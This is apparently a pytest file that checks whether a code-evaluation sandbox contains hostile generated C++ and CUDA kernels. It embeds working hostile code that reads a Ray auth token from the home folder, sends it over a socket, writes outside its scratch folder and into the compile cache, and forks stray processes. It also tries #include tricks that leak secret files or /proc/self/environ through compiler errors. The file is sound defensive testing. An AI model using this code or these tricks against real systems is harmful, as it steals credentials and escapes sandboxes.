"""Generated code reaches nothing: hostile kernels that read the home folder, call a listener on
127.0.0.1, write outside their scratch folder or leave a process behind are judged as if they had
not tried (or fail cleanly), and nothing reaches the listener or the file system. A hostile
#include fails to compile without the secret in the diagnostics. `strict` refuses where no
namespaces exist; `namespaces` says so once and runs on.

CPU kernels run here; CUDA runs are marked `gpu`, SYCL ones `sycl`, each skipped where absent."""
from __future__ import annotations

import os
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

from kfray.candidate import TIER_COMPILE_ERROR, TIER_CORRECT, Candidate, EvalResult
from kfray.config import EvalConfig
from kfray.eval import isolation
from kfray.source import parse_params
from kfray.tasks import load_task

ROOT = Path(__file__).resolve().parents[1]
TOKEN = "kfray-secret-token-4711"
WHY = isolation.unavailable_reason()
needs_namespaces = pytest.mark.skipif(bool(WHY), reason=f"no namespace isolation here: {WHY}")

# The hostile part, shared by the C++ and CUDA kernels: PLAN is one of read, connect, write, fork.
HOSTILE = r"""
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <unistd.h>
#include <fcntl.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <netinet/in.h>
#include <arpa/inet.h>
static int kf_hostile_done = 0;
static int kf_hostile(void) {       /* 0: nothing leaked; 7: the secret was readable */
    if (kf_hostile_done++) return 0;
    char secret[128] = {0};
    char path[4096];
    const char* home = getenv("HOME");
    snprintf(path, sizeof path, "%s/.ray/auth_token", home ? home : "");
    int fd = open(path, O_RDONLY);
    if (fd < 0) fd = open(SECRET, O_RDONLY);
    int got = fd >= 0 ? (int)read(fd, secret, sizeof secret - 1) : -1;
    if (fd >= 0) close(fd);
    if (PLAN == 1) return got > 0 ? 7 : 0;
    if (PLAN == 2) {
        int s = socket(AF_INET, SOCK_STREAM, 0);
        struct sockaddr_in a; memset(&a, 0, sizeof a);
        a.sin_family = AF_INET; a.sin_port = htons(PORT); a.sin_addr.s_addr = inet_addr("127.0.0.1");
        if (s >= 0 && connect(s, (struct sockaddr*)&a, sizeof a) == 0)
            send(s, got > 0 ? secret : "no-secret-but-connected", got > 0 ? got : 23, 0);
        if (s >= 0) close(s);
        return 0;
    }
    if (PLAN == 3) {
        const char* targets[] = {ESCAPE, CACHE_POISON, HOST_TMP};
        for (const char* t : targets) {
            int w = open(t, O_WRONLY | O_CREAT | O_TRUNC, 0644);
            if (w >= 0) { write(w, "escaped", 7); close(w); }
        }
        return 0;
    }
    if (PLAN == 4) {
        if (fork() == 0) {
            setsid();
            prctl(PR_SET_NAME, "kf_stray", 0, 0, 0);
            if (fork() == 0) { prctl(PR_SET_NAME, "kf_stray", 0, 0, 0); sleep(3);
                int w = open(LATE, O_WRONLY | O_CREAT, 0644); if (w >= 0) close(w); _exit(0); }
            sleep(3);
            int w = open(LATE, O_WRONLY | O_CREAT, 0644); if (w >= 0) close(w);
            _exit(0);
        }
        return 0;
    }
    return 0;
}
"""
CPU_BODY = "{ int h = kf_hostile(); if (h) return h; for (int64_t i = 0; i < n; ++i) y[i] = a * x[i] + b; return 0; }"


class Listener:
    """A TCP listener on 127.0.0.1 that records every connection and byte it gets."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.received: list[bytes] = []
        self.stop = False
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while not self.stop:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            conn.settimeout(1)
            try:
                self.received.append(b"<connected>" + conn.recv(4096))
            except OSError:
                self.received.append(b"<connected>")
            conn.close()

    def close(self):
        self.stop = True
        self.thread.join(2)
        self.sock.close()


@pytest.fixture(scope="module")
def world(tmp_path_factory):
    """A home folder with a Ray token, a listener, and the paths a hostile kernel aims at."""
    base = tmp_path_factory.mktemp("iso")
    home = base / "home"
    (home / ".ray").mkdir(parents=True)
    (home / ".ray" / "auth_token").write_text(TOKEN)
    listener = Listener()
    mp = pytest.MonkeyPatch()
    mp.setenv("HOME", str(home))
    mp.delenv(isolation.SIMULATE_ENV, raising=False)
    w = {"base": base, "home": home, "secret": home / ".ray" / "auth_token", "listener": listener,
         "escape": base / "escaped.txt", "late": base / "late.txt", "cache": base / "cache",
         "host_tmp": Path("/tmp") / f"kfray-iso-{os.getpid()}.txt"}
    yield w
    mp.undo()
    listener.close()
    w["host_tmp"].unlink(missing_ok=True)


def _defines(w, plan: int) -> str:
    d = {"PLAN": plan, "PORT": w["listener"].port, "SECRET": f'"{w["secret"]}"', "ESCAPE": f'"{w["escape"]}"',
         "CACHE_POISON": f'"{w["cache"] / "poison.txt"}"', "HOST_TMP": f'"{w["host_tmp"]}"',
         "LATE": f'"{w["late"]}"'}
    return "".join(f"#define {k} {v}\n" for k, v in d.items())


def _cpu_source(w, plan: int) -> str:
    return "#include <cstdint>\n" + _defines(w, plan) + HOSTILE + load_task("axpb").signature("cpp") + CPU_BODY


@pytest.fixture(scope="module")
def cpu_evaluator(world):
    from kfray.eval.evaluator import Evaluator

    ev = Evaluator("cpu", EvalConfig(cache_dir=str(world["cache"]), timeout_s=60, tune_budget=0))
    yield ev
    ev.shutdown()


def _evaluate(ev, source: str, language: str) -> EvalResult:
    return EvalResult.from_dict(ev.evaluate(Candidate(task="axpb", language=language, source=source, params={})))


def _strays() -> list[int]:
    out = []
    for d in Path("/proc").iterdir():
        try:
            if d.name.isdigit() and (d / "comm").read_text().strip() == "kf_stray" \
                    and (d / "stat").read_text().rsplit(")", 1)[1].split()[0] != "Z":   # a zombie runs nothing
                out.append(int(d.name))
        except OSError:
            pass
    return out


def _nothing_escaped(w) -> None:
    assert w["listener"].received == [], f"the listener got {w['listener'].received}"
    for key in ("escape", "late", "host_tmp"):
        assert not w[key].exists(), f"the kernel wrote {w[key]}"
    assert not (w["cache"] / "poison.txt").exists(), "the kernel wrote into the compile cache"
    assert not _strays(), "a process the kernel forked outlived the evaluation"


@needs_namespaces
@pytest.mark.parametrize("plan,what", [(1, "read the home folder"), (2, "call 127.0.0.1"),
                                       (3, "write outside its scratch folder"), (4, "fork a process")])
def test_a_hostile_cpu_kernel_is_judged_as_if_it_had_not_tried(cpu_evaluator, world, plan, what):
    r = _evaluate(cpu_evaluator, _cpu_source(world, plan), "cpp")
    assert r.tier == TIER_CORRECT, f"{what}: {r.reason}"
    _nothing_escaped(world)
    if plan == 4:
        time.sleep(4)             # past the stray's sleep: it would have written by now
        _nothing_escaped(world)


@needs_namespaces
def test_the_same_kernel_without_isolation_does_reach_the_listener(world):
    """The control: with eval.isolation none the hostile part works (so the tests above test something)."""
    from kfray.eval.evaluator import Evaluator

    ev = Evaluator("cpu", EvalConfig(cache_dir=str(world["base"] / "cache-none"), timeout_s=60, tune_budget=0,
                                     isolation="none"))
    try:
        r = _evaluate(ev, _cpu_source(world, 2), "cpp")
        assert r.tier == TIER_CORRECT, r.reason
        deadline = time.time() + 5
        while not world["listener"].received and time.time() < deadline:
            time.sleep(0.1)
        assert world["listener"].received and TOKEN.encode() in world["listener"].received[0]
        assert _evaluate(ev, _cpu_source(world, 3), "cpp").tier == TIER_CORRECT
        assert world["escape"].exists() and world["host_tmp"].exists()
        assert _evaluate(ev, _cpu_source(world, 4), "cpp").tier == TIER_CORRECT
        assert _strays(), "without isolation the forked process outlives the evaluation"
    finally:
        ev.shutdown()
        for _ in range(20):                  # the stray and the one it forks
            for pid in _strays():
                os.kill(pid, 9)
            time.sleep(0.05)
        world["listener"].received.clear()
        for key in ("escape", "host_tmp", "late"):
            world[key].unlink(missing_ok=True)
        (world["cache"] / "poison.txt").unlink(missing_ok=True)


@needs_namespaces
def test_a_hostile_include_fails_to_compile_without_leaking(cpu_evaluator, world):
    src = f'#include "{world["secret"]}"\n#include <cstdint>\n' + load_task("axpb").signature("cpp") + CPU_BODY
    r = _evaluate(cpu_evaluator, src, "cpp")
    assert r.tier == TIER_COMPILE_ERROR and TOKEN not in r.reason, r.reason
    assert "No such file" in r.reason, r.reason


@needs_namespaces
def test_a_compiler_reads_no_secret_from_its_environment(cpu_evaluator, monkeypatch):
    monkeypatch.setenv("OPENAI_API_KEY", "sk-must-not-leak-4711")
    src = '#include "/proc/self/environ"\n#include <cstdint>\n' + load_task("axpb").signature("cpp") + CPU_BODY
    r = _evaluate(cpu_evaluator, src, "cpp")
    assert r.tier == TIER_COMPILE_ERROR and "sk-must-not-leak" not in r.reason, r.reason


@needs_namespaces
def test_a_hostile_cuda_include_fails_to_compile_without_leaking(world):
    """nvcc under the same isolation (compile only: no GPU needed)."""
    from kfray.eval.backends.cuda.toolchain import compile_cuda, nvcc_path
    from kfray.eval.backends.base import CompileError
    from kfray.eval.compile_cache import CompileCache

    try:
        nvcc_path()
    except Exception as e:
        pytest.skip(str(e))
    cache = CompileCache(world["base"] / "cuda-cache")
    src = f'#include "{world["secret"]}"\n__global__ void k() {{}}\n'
    with pytest.raises(CompileError) as err:
        compile_cuda(src, {}, cache=cache, arch="sm_90", flags=[], timeout_s=300)
    assert TOKEN not in str(err.value) and "No such file" in str(err.value), str(err.value)


def test_strict_refuses_clearly_where_no_namespaces_exist(world, monkeypatch):
    from kfray.errors import KfrayError
    from kfray.eval.evaluator import Evaluator

    monkeypatch.setenv(isolation.SIMULATE_ENV, "1")
    with pytest.raises(KfrayError, match="eval.isolation is strict") as err:
        Evaluator("cpu", EvalConfig(cache_dir=str(world["cache"]), isolation="strict"))
    assert "namespaces" in str(err.value) and "none" in str(err.value)


def test_namespaces_without_them_warns_once_and_runs(world, monkeypatch, capsys):
    from kfray.eval.evaluator import Evaluator

    monkeypatch.setenv(isolation.SIMULATE_ENV, "1")
    monkeypatch.setattr(isolation, "_warned", set())
    evs = [Evaluator("cpu", EvalConfig(cache_dir=str(world["cache"]), timeout_s=60, tune_budget=0))
           for _ in range(2)]
    try:
        err = capsys.readouterr().err
        assert err.count("WITHOUT isolation") == 1 and "eval.isolation: strict" in err, err
        seed = load_task("axpb").baseline_seed("cpp")
        r = EvalResult.from_dict(evs[0].evaluate(Candidate(task="axpb", language="cpp", source=seed.source,
                                                           params=parse_params(seed.source).default())))
        assert r.tier == TIER_CORRECT, r.reason
    finally:
        for ev in evs:
            ev.shutdown()


def test_doctor_reports_isolation(monkeypatch):
    env = {**os.environ, "PYTHONPATH": str(ROOT), isolation.SIMULATE_ENV: "1"}
    out = subprocess.run([sys.executable, "-m", "kfray.cli", "doctor"], capture_output=True, text=True, env=env,
                         timeout=120).stdout
    assert "isolation" in out and f"{isolation.SIMULATE_ENV} is set" in out, out


def test_a_bad_isolation_setting_names_the_choices():
    from kfray.config import load_config
    from kfray.errors import ConfigError

    with pytest.raises(ConfigError, match="strict, namespaces, none"):
        load_config(None, ["eval.isolation=sometimes"])


# --- CUDA (a GPU) and SYCL (the OpenCL CPU device) --------------------------------------------------
def _gpu_skip() -> str:
    try:
        import cupy

        if cupy.cuda.runtime.getDeviceCount() < 1:
            return "CuPy sees no GPU"
    except Exception as e:
        return f"no usable GPU through CuPy ({type(e).__name__})"
    return ""


CUDA_KERNEL = r"""
__global__ void k(const float* x, float* y, float a, float b, int64_t n) {
    int64_t i = (int64_t)blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n) y[i] = a * x[i] + b;
}
""" + load_task("axpb").signature("cuda") + r"""{
    int h = kf_hostile(); if (h) return h;
    if (n <= 0) return 0;
    k<<<(unsigned)((n + 255) / 256), 256, 0, stream>>>(x, y, a, b, n);
    return (int)cudaGetLastError();
}
"""


@pytest.mark.gpu
@needs_namespaces
def test_hostile_cuda_kernels_are_judged_as_if_they_had_not_tried(world):
    why = _gpu_skip()
    if why:
        pytest.skip(why)
    from kfray.eval.evaluator import Evaluator

    ev = Evaluator("cuda", EvalConfig(cache_dir=str(world["cache"]), timeout_s=120, tune_budget=0))
    try:
        for plan in (1, 2, 3, 4):
            src = "#include <cstdint>\n#include <cuda_runtime.h>\n" + _defines(world, plan) + HOSTILE + CUDA_KERNEL
            r = _evaluate(ev, src, "cuda")
            assert r.tier == TIER_CORRECT, f"plan {plan}: {r.reason}"
            _nothing_escaped(world)
        seed = load_task("axpb").baseline_seed("cuda")
        r = EvalResult.from_dict(ev.evaluate(Candidate(task="axpb", language="cuda", source=seed.source,
                                                       params=parse_params(seed.source).default())))
        assert r.tier == TIER_CORRECT, r.reason
    finally:
        ev.shutdown()
    time.sleep(4)
    _nothing_escaped(world)


def _sycl_skip() -> str:
    import importlib.util

    if importlib.util.find_spec("dpctl") is None:
        return "dpctl is not installed"
    from kfray.eval.backends.sycl import runtime as rt

    try:
        rt.sycl_root()
    except Exception as e:
        return str(e)
    found = rt.probe("opencl:cpu")
    return "" if found["selected"] else f"no opencl:cpu SYCL device: {found['error']}"


SYCL_JIT = """#include <sycl/sycl.hpp>
// @kf.launch axpb_k global=((n + 127) // 128 * 128) local=(128)
namespace syclext = sycl::ext::oneapi;
namespace syclexp = sycl::ext::oneapi::experimental;
extern "C" SYCL_EXT_ONEAPI_FUNCTION_PROPERTY((syclexp::nd_range_kernel<1>))
void axpb_k(const float* x, float* y, float a, float b, int64_t n) {
    const int64_t i = syclext::this_work_item::get_nd_item<1>().get_global_id(0);
    if (i < n) y[i] = a * x[i] + b;
}
"""


@pytest.mark.sycl
@needs_namespaces
def test_sycl_kernels_run_isolated_and_a_hostile_include_does_not_leak(world):
    why = _sycl_skip()
    if why:
        pytest.skip(why)
    from kfray.eval.evaluator import Evaluator

    cfg = EvalConfig(backend="sycl", sycl_device="opencl:cpu", sycl_form="jit", cache_dir=str(world["cache"]),
                     trials=1, warmup=1, repeats=3, max_repeats=10, min_time_s=0.005, timeout_s=120, tune_budget=0)
    ev = Evaluator("sycl", cfg, "iso-sycl")
    try:
        ok = _evaluate(ev, SYCL_JIT, "sycl_jit")
        assert ok.tier == TIER_CORRECT, ok.reason
        bad = _evaluate(ev, f'#include "{world["secret"]}"\n' + SYCL_JIT, "sycl_jit")
        assert bad.tier == TIER_COMPILE_ERROR and TOKEN not in bad.reason, bad.reason
        assert "not found" in bad.reason or "No such file" in bad.reason, bad.reason
    finally:
        ev.shutdown()
    _nothing_escaped(world)


def test_task_refs_reach_the_isolated_worker_as_absolute_paths(monkeypatch):
    """The isolated worker starts in an empty /tmp: a task named by a relative path, a robust-kbench
    backward task and a configuration mode included, is handed over by its absolute path."""
    from pathlib import Path

    from kfray.eval.sandbox import _task_path

    root = Path(__file__).parent
    monkeypatch.chdir(root)
    path, ref = _task_path("rkb:data/rkb_form/linear_relu#backward@multi")
    assert path == str((root / "data/rkb_form/linear_relu").resolve())
    assert ref == f"rkb:{path}#backward@multi"
    assert _task_path("axpb") == (None, "axpb")


def test_folder_to_keep_shows_a_hidden_suite_folder_once_and_nothing_visible(world):
    """A task under a hidden folder (/tmp, the home folder) is shown to the worker through the folder
    that holds it, so its sibling tasks need no new worker; a visible task needs nothing."""
    tasks = world["base"] / "suite" / "tasks"
    (tasks / "a").mkdir(parents=True, exist_ok=True)
    assert isolation.folder_to_keep(str(tasks / "a")) == str(tasks.resolve())
    assert isolation.folder_to_keep("/usr/share") is None        # visible already (this checkout may be in /tmp)
    at_home = world["home"] / "task"
    at_home.mkdir(exist_ok=True)
    assert isolation.folder_to_keep(str(at_home)) == str(at_home.resolve())   # never the whole home


@needs_namespaces
def test_sibling_tasks_in_a_hidden_folder_share_one_isolated_worker(world, tmp_path):
    """Two tasks of one suite folder under /tmp: the worker restarts once to see the folder, not
    once per task (each restart of a GPU worker costs an import of torch and a CUDA context)."""
    import shutil

    from kfray.eval.evaluator import Evaluator

    for name in ("vscale", "rowmax"):
        shutil.copytree(Path(__file__).parent / "data" / "packages" / name, tmp_path / "suite" / name)
    ev = Evaluator("cpu", EvalConfig(cache_dir=str(world["cache"]), timeout_s=60, tune_budget=0))
    starts, start = [], ev.sandbox._start
    ev.sandbox._start = lambda *a, **k: (starts.append(1), start(*a, **k))[1]
    try:
        results = []
        for name in ("vscale", "rowmax", "vscale"):
            ref = str(tmp_path / "suite" / name)
            seed = load_task(ref).seeds_for("cpp")[0]
            results.append(EvalResult.from_dict(ev.evaluate(
                Candidate(task=ref, language="cpp", source=seed.source, params=parse_params(seed.source).default()),
                ref, tune=False)))
        assert [r.tier for r in results] == [5, 5, 5], [r.reason for r in results]
        assert len(starts) == 1, f"the worker started {len(starts)} times for three jobs of one suite folder"
    finally:
        ev.shutdown()
